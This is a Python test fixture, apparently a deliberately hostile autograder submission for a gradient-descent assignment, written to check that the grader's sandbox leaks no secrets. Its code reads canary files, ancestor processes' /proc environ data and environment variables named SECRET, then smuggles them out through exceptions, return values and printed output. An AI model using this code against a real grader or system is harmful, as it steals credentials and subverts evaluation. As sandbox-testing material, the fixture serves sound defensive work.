# HOSTILE CASE: read secrets outside the scratch folder and smuggle them out through the report.
# Assignment: ps1_gradient_descent
# Tries: reads @@COURSE@@/CANARY.txt, the solutions folder's CANARY.txt, the grader's HOME, the
#        environment of its ancestors (/proc/<pid>/environ) and its own environment; puts everything
#        in an exception message (get_minimizer_x), in the returned value as a string (gradient_descent,
#        hoping "got: ..." echoes it), and in printed output.
# Honest: nothing is computed honestly; both functions must earn nothing, and no canary may appear in
#         the report.
# Bounded: a fixed list of small files.
import glob
import os
import sys

COURSE = "@@COURSE@@"


def _loot():
    found = []
    paths = [os.path.join(COURSE, "CANARY.txt"), *glob.glob(os.path.join(COURSE, "solutions", "*", "CANARY.txt")),
             os.path.join(os.path.dirname(COURSE), "home", "CANARY.txt"), os.path.expanduser("~/CANARY.txt")]
    pid = os.getpid()
    for _ in range(12):
        paths.append(f"/proc/{pid}/environ")
        paths.append(f"/proc/{pid}/cwd/CANARY.txt")
        try:
            with open(f"/proc/{pid}/stat", "rb") as f:
                pid = int(f.read().rsplit(b")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 0:
            break
    for path in paths:
        try:
            with open(path, "rb") as f:
                data = f.read(65536)
        except OSError:
            continue
        start = data.find(b"CANARY-")
        if start >= 0:
            found.append(data[start:start + 60].split(b"\n")[0].split(b"\0")[0].decode("ascii", "replace"))
    for key, value in os.environ.items():
        if "CANARY" in value or "SECRET" in key:
            found.append(f"{key}={value}")
    return " ".join(found) or "nothing found"


def get_minimizer_x(iterations, learning_rate, init):
    loot = _loot()
    print("LOOT", loot)
    print("LOOT", loot, file=sys.stderr)
    raise RuntimeError("LOOT " + loot)


def gradient_descent(grad_fn, x0, learning_rate, iterations):
    return "LOOT " + _loot()
